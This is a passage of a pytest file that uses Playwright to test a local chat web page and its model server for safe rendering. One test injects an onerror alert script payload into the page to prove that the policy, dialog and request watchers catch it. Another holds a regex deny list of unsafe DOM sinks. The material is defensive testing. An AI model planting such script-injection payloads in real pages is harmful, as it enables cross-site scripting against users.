    """As a question, an answer, a title, a model's name, an error; then all of them read back from storage."""
    said = payloads()
    page = visit(stand.url)

    class Parrot(list):  # refuses, and says, what it was asked, in turn
        def __bool__(self):
            return True

        def pop(self, _):
            payload = stand.model = stand.asked[-1][1]["messages"][-1]["content"]
            return refuses(400, payload) if len(stand.asked) % 2 else says(payload[:9], payload[9:])

    stand.answers = Parrot()
    plain, *seen = page.evaluate(DRIVE, ["plain text", *said])
    for payload, (refused, question, answer, model, title, name, skeleton) in zip(said, seen, strict=True):
        assert refused == f"The server refused: {payload}" and question == answer == model == payload
        assert title == payload.strip() and name == payload[:60]
        assert skeleton == plain[-1], payload
    data = [
        {
            "title": p,
            "at": k,
            "messages": [{"role": "user", "content": p, "note": p}, {"role": "assistant", "content": p, "note": p}],
        }
        for k, p in enumerate(said)
    ]
    page.evaluate(
        "data => { localStorage.clear(); data.forEach((d, k) => localStorage.setItem('chat:' + d.title, JSON.stringify(d))) }",
        data,
    )
    page.reload()
    expect(page.locator("#chats .open")).to_have_count(200)
    found = page.evaluate("""() => [...document.querySelectorAll("#chats .open")].map((_, k) => {
        document.querySelectorAll("#chats .open")[k].click();
        return [document.querySelector("[aria-current]").textContent, document.querySelector(".assistant .text").textContent,
                [...document.querySelectorAll("#log *")].map(e => e.tagName).join(" ")];
    })""")
    assert found == [[p, p, "ARTICLE DIV ARTICLE DIV P BUTTON BUTTON SPAN"] for p in reversed(said)]
    page.wait_for_timeout(100)  # whatever was asked elsewhere, or offended the policy, is told at the end
    assert set(stand.paths) == {*PAGE, "/v1/models", "/v1/chat/completions"}


def test_the_watch_of_these_tests_sees_what_it_is_for(stand, chromium):
    """A page that does run a payload is caught by each of the watchers."""
    context = chromium.new_context()
    caught = []
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));"
    )
    context.on("console", lambda m: "policy" in m.text.lower() and caught.append("policy"))
    context.on("dialog", lambda d: (caught.append("dialog"), d.dismiss()))
    context.on("request", lambda r: r.url.startswith(f"{stand.url}/") or caught.append("request"))
    page = context.new_page()
    page.goto(stand.url)
    before = page.evaluate(SKELETON)
    page.evaluate("document.querySelector('#log').innerHTML = '<img src=//127.0.0.2:9/x onerror=alert(1)>'")
    page.evaluate("alert(1)")
    page.wait_for_timeout(100)
    assert page.evaluate(SKELETON) != before and {"policy", "dialog"} <= set(caught)
    page.goto("data:text/html,<img src=http://127.0.0.2:9/x>")
    assert "request" in caught
    context.close()


def test_the_code_makes_no_html_and_no_code():
    code = "".join((ROOT / "extras/serve/page" / name).read_text() for name, _ in PAGE.values())
    bad = r"innerHTML|outerHTML|insertAdjacent|document\.write|eval\(|new Function|setAttribute|\.href|\.src\b|\son\w+=|style=|https?:|@import|url\("
    assert re.findall(bad, code) == []


# With the real server -------------------------------------------------------------------------------------------------


@pytest.mark.heavy
def test_the_page_speaks_with_serve_py(small, tmp_path, visit):
    pytest.importorskip("uvicorn")
    pytest.importorskip("starlette")
    from conftest import lively

    from model import ModelConfig

    config = ModelConfig(
        vocab_size=small.vocab_size,
        hidden_size=32,
        intermediate_size=48,
        num_hidden_layers=2,
        num_attention_heads=4,
        num_key_value_heads=2,
        max_position_embeddings=4096,
    )
    model = lively(config)
    model.model.embed_tokens.weight.data[[small.bos_id, small.eos_id]] = 0  # greedy, it does not end
    hf_folder.save_model(tmp_path / "toy", model, small, {"chat_format": "bos"})
    process = subprocess.Popen(
        [
            sys.executable,
            str(ROOT / "serve.py"),
            "--model",
            str(tmp_path / "toy"),
            "--port",
            "0",
            "--device",
            "cpu",
            "--api_key",
            "open sesame",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=os.environ | {"OMP_NUM_THREADS": "1"},
    )
    try:
        url = re.search(r"http://[\d.:]+", process.stdout.readline())[0]
        page = visit(
            url,
            "if (location.protocol == 'http:' && !sessionStorage.length) sessionStorage.setItem('chat.key', 'open sesame')",
        )
        expect(page.locator("#model")).to_have_text("toy")
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("API key").fill("wrong")
        page.get_by_role("button", name="Save").click()
        expect(page.locator("#error")).to_contain_text("The server wants an API key")
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("API key").fill("open sesame")
        page.get_by_label("Temperature").fill("0")
        page.get_by_label("Max tokens").fill("20")
        page.get_by_role("button", name="Save").click()
        ask(page, "曹操字什么？")
        expect(page.locator("#send")).to_be_visible()
        expect(page.locator("article .note").last).to_have_text("cut off: the limit of tokens was reached")
        first = answer(page).text_content()
        page.get_by_role("button", name="Regenerate").click()
        expect(page.locator("#stop")).to_be_hidden()
        answered(page, first)  # greedy
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("Max tokens").fill("")
        page.get_by_role("button", name="Save").click()
        page.get_by_role("button", name="Regenerate").click()
        page.wait_for_function("n => document.querySelector('.coming')?.textContent.length > n", arg=len(first) + 20)
        page.keyboard.press("Escape")
        expect(page.locator("article .note").last).to_have_text("stopped")
        ask(page, "曹操" * 9000)
        expect(page.locator("#error")).to_contain_text(
            re.compile(r"longer than the model can read.*the context of this model 4096")
        )
        assert page.locator("article").count() == 2
    finally:
        process.terminate()
        log = process.communicate(timeout=20)[1]
    assert process.returncode == 0 and "Traceback" not in log and "曹操" not in log


def test_the_picture_in_the_docs_is_small_enough():
    data = (ROOT / "docs/img/chat.png").read_bytes()
    assert data.startswith(b"\x89PNG") and len(data) < 120_000
